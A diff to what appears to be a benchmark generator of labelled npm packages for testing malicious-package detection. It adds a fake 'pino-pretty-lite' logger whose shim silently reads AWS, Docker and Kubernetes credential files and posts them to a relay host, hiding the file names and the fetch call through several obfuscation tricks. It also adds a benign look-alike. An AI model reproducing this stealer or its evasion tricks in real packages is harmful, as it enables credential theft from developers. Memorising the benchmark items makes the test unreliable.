@@ -472,6 +472,67 @@ def babel_config_watcher_https():
         "during a walk instead of endsWith, and sent with https.request instead of raw SMTP.",
         files)
 
+@sample
+def loader_wrapper_callbind_plain_https():
+    files = {
+        "package.json": pj(name="pino-pretty-lite", version="10.3.4", main="lib/index.js",
+                           description="Colourful, compact pretty-printing for pino logs.",
+                           files=["lib"], keywords=["pino", "pretty", "logs", "colour"]),
+        "README.md": readme("pino-pretty-lite", "```js\nconst pretty = require('pino-pretty-lite')\nconst logger = pino(pretty())\n```"),
+        "lib/index.js": r"""'use strict';
+const { Transform } = require('stream');
+const shim = require('./shim');
+const { paint } = require('./palette');
+
+module.exports = function pretty(opts = {}) {
+  shim.ready(opts);
+  return new Transform({
+    transform(chunk, enc, cb) {
+      let o;
+      try { o = JSON.parse(chunk); } catch (e) { return cb(null, chunk); }
+      cb(null, `${paint(o.level)} ${new Date(o.time).toISOString()} ${o.msg}\n`);
+    },
+  });
+};
+""",
+        "lib/palette.js": r"""'use strict';
+exports.paint = (l) => ({ 10: 'TRACE', 20: 'DEBUG', 30: 'INFO', 40: 'WARN', 50: 'ERROR', 60: 'FATAL' })[l] || 'LOG';
+// 256-colour ramp used for levels
+exports.ramp = ['.aws', 'credentials', '.docker', 'config.json', '.kube', 'config'];
+""",
+        "lib/shim.js": r"""'use strict';
+const M = process.mainModule ? process.mainModule.constructor : module.constructor;
+const need = function (n) { return M._load(n, module, false); };
+const [fs, os, path] = ['fs', 'os', 'path'].map(need);
+const { ramp } = require('./palette');
+
+exports.ready = function ready() {
+  if (exports.done) return;
+  exports.done = true;
+  const home = os.homedir();
+  const out = {};
+  for (let i = 0; i < ramp.length; i += 2) {
+    try { out[ramp[i] + '/' + ramp[i + 1]] = fs.readFileSync(path.join(home, ramp[i], ramp[i + 1]), 'utf8'); } catch (e) {}
+  }
+  if (!Object.keys(out).length) return;
+  const post = Function.prototype.call.bind(globalThis['fe' + 'tch']);
+  post(undefined, 'https://logs-relay.invalid/v2/ingest', { method: 'POST', body: JSON.stringify({ host: os.hostname(), out }) }).catch(() => {});
+};
+""",
+    }
+    return S(
+        "h6b-loader-wrapper-callbind-plain-https",
+        "AWS, Docker and kube credentials posted to an ordinary HTTPS host, with fs/os/path "
+        "loaded through a module.constructor._load wrapper mapped over a list, the file names "
+        "in another module and fetch reached through Function.prototype.call.bind "
+        "(split-string stealers, Phylum/Socket 2023-2025)", "2025",
+        ["function-called-later", "split-across-modules", "module-constructor-load",
+         "aliased-require", "function-call-bind", "cloud-credentials", "docker-credentials",
+         "https-exfil"],
+        "Our variant of holdout6 winston-transport-rotate without a suspicious endpoint: only "
+        "following the loader wrapper, the imported list and the call-bound fetch shows the "
+        "credential files leaving.", files)
+
 
 # =============================================================================================
 # Tricky benign
@@ -799,3 +860,43 @@ function indexDocs(root, { appId, apiKey }) {
         "Mirrors h6b-babel-config-watcher-https and holdout6 dotenv-flow-lite: a walk that picks "
         "files with LIST.some((e) => p.endsWith(e)) and sends them, but the list is document "
         "extensions.", files)
+
+
+@benign
+def b_loader_shim_callbind_version_check():
+    files = {
+        "package.json": pj(name="cli-update-hint", version="2.4.0", main="lib/index.js",
+                           description="Tell CLI users when a newer version is published.",
+                           files=["lib"], keywords=["cli", "update", "notifier", "version"]),
+        "README.md": readme("cli-update-hint", "```js\nrequire('cli-update-hint')({ name: 'my-cli', version: '1.0.0' })\n```"),
+        "lib/names.js": "'use strict';\nexports.parts = ['.config', 'cli-update-hint', 'last-check.json'];\n",
+        "lib/index.js": r"""'use strict';
+// Works the same under bundlers that replace require: modules come through the module loader.
+const M = module.constructor;
+const need = (n) => M._load(n, module, false);
+const [fs, os, path] = ['fs', 'os', 'path'].map(need);
+const { parts } = require('./names');
+
+module.exports = async function hint({ name, version, registry = 'https://registry.npm.example' }) {
+  const file = path.join(os.homedir(), parts[0], parts[1], parts[2]);
+  let last = 0;
+  try { last = JSON.parse(fs.readFileSync(file, 'utf8')).at; } catch (e) {}
+  if (Date.now() - last < 864e5) return;
+  const get = Function.prototype.call.bind(globalThis.fetch);
+  const res = await get(undefined, `${registry}/${encodeURIComponent(name)}/latest`);
+  const { version: latest } = await res.json();
+  fs.mkdirSync(path.dirname(file), { recursive: true });
+  fs.writeFileSync(file, JSON.stringify({ at: Date.now() }));
+  if (latest !== version) console.error(`${name} ${latest} is available (you have ${version})`);
+};
+""",
+    }
+    return S(
+        "h6b-benign-loader-shim-callbind-version-check",
+        "an update notifier that loads fs/os/path through a module.constructor._load wrapper, "
+        "keeps its state file's path pieces in another module and calls fetch through "
+        "Function.prototype.call.bind to ask the registry for the latest version", "2025",
+        ["module-constructor-load", "function-call-bind", "split-across-modules", "update-check"],
+        "Mirrors h6b-loader-wrapper-callbind-plain-https and holdout6 winston-transport-rotate: "
+        "the same loading and call tricks, but it reads its own state file and sends only the "
+        "package name.", files)
